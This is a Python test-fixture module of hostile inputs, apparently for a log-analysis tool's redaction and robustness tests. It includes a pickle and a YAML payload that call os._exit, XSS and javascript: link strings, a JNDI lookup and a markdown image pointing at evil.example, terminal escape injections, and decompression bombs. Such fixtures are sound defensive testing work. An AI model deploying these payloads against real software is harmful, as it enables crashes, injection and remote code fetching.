"""What the inputs are made of: recorded logs, and what attackers, accidents and secrets add to them."""

from __future__ import annotations

import bz2
import gzip
import lzma
import zlib
from functools import cache
from pathlib import Path
from typing import Protocol

ROOT = Path(__file__).parents[2]
#: A death that no line around it can undo: nobody asks for a segmentation fault.
DEATH = b"2026-05-04 11:22:34,000 - distributed.nanny - INFO - Worker process 7 was killed by signal 11"
#: What no output may show, and lines that carry it.
SECRET = "Hunter2" + "x9Qz7"
SECRETS = tuple(
    line.replace("SECRET", SECRET).encode()
    for line in (
        "OSError: [Errno 28] No space left on device: DB_PASSWORD=SECRET",
        "Key: x\x1b[31m token=\x1b[0mSECRET",
        "KilledWorker: postgres://ann:SECRET@db:5432/x",
        '{"password": "SECRET", "user": "ann"}',
        "Authorization: Bearer SECRET",
        "distributed.worker - ERROR - Worker stream died: https://x.example/?sig=SECRET",
    )
)
#: Ends the process that loads it.
PICKLE = b"cos\n_exit\n(I86\ntR."
#: What a terminal, a browser or GitHub would act upon.
HOSTILE = (
    b"\x1b[31mred\x1b[0m \x1b]0;title\x07",
    b"<script>alert(1)</script><img src=x onerror=alert(1)>",
    b"![x](http://evil.example/x.png) [click](javascript:alert(1)) `a` ``` | **b**",
    "\u202egnirts \u2066 \u200b zero".encode(),
    b"\xff\xfe\x00\xed\xa0\x80",
    b"{{ 7 * 7 }} ${jndi:ldap://evil.example} %s%n",
    b"Killed",
    b'Traceback (most recent call last):\n  File "x.py", line 1, in f\nMemoryError',
    b"-----BEGIN RSA PRIVATE KEY-----",
    b"('INFO', 'distributed.nanny - Worker process 9 exited with status 1')",
    b"A" * 5000,
    b"(" * 500,
    b"\n" * 200,
    b"[" * 20_000,
    b'{"log":' * 5000,
    b'{"a": ' + b"[[" * 3000 + b"]]" * 3000 + b"}",
    b"\xc0\xaf\xf8\x88\x80\x80\x80\xf4\x90\x80\x80",
    b"e" + "\u0301".encode() * 3000,
    b"\x1b" * 1000 + b"\x9b31m\x1bP" + b"q" * 1000,
    b"\x1b]8;;javascript:alert(1)\x1b\\here\x1b]8;;\x1b\\",
    b"\x00" * 70 + b"\x08" * 70 + b"\r\x1b[2K",
    b"0000-00-00 00:00:00,000 - distributed.nanny - INFO - Worker process 7 was killed by signal 11",
    b"9999-12-31T23:59:60Z distributed.worker - ERROR - Worker process exited",
    b"2026-05-04 11:22:33,000 - distributed.nanny - INFO - Worker process " + b"9" * 5000 + b" exited",
    b"2026-05-04 11:22:33,000 - distributed.nanny - INFO - Worker process 7 exited with status -" + b"9" * 40,
    b"tcp://[::ffff:10.0.0.4%eth0]:99999999 tcp://:0 tls://" + b"a." * 2000 + b":1",
    PICKLE,
    b"!!python/object/apply:os._exit [86]",
)  # fmt: skip


class Compressor(Protocol):
    """As those of `zlib`, `bz2` and `lzma`."""

    def compress(self, data: bytes, /) -> bytes:
        """Some of the compressed data."""

    def flush(self) -> bytes:
        """The rest of it."""


@cache
def logs() -> tuple[bytes, ...]:
    """The recorded logs of the tests, the first 20,000 bytes of each."""
    folders = (ROOT / "tests" / "recordings", ROOT / "tests" / "cases")
    paths = sorted(
        path for folder in folders for path in folder.rglob("*") if path.suffix in {".log", ".txt", ".json"}
    )
    return tuple(path.read_bytes()[:20_000] for path in paths)


@cache
def packed() -> tuple[bytes, ...]:
    """Compressed logs, and a few bytes that become very many."""
    log = logs()[0]
    bombs = tuple(map(_bomb, (zlib.compressobj(wbits=31), bz2.BZ2Compressor(), lzma.LZMACompressor(preset=0))))
    return (
        gzip.compress(log),
        bz2.compress(log),
        lzma.compress(log),
        gzip.compress(log) * 20,
        gzip.compress(gzip.compress(gzip.compress(log))),
        *bombs,
        gzip.compress(bombs[0]),
        gzip.compress(DEATH + b"\n" * 10**7),
    )


@cache
def rules() -> tuple[bytes, ...]:
    """The shipped rules."""
    return tuple(path.read_bytes() for path in sorted((ROOT / "knowledge" / "causes").rglob("*.toml")))


def _bomb(compressor: Compressor) -> bytes:
    zeros = bytes(10**6)
    return b"".join(compressor.compress(zeros) for _ in range(40)) + compressor.flush()
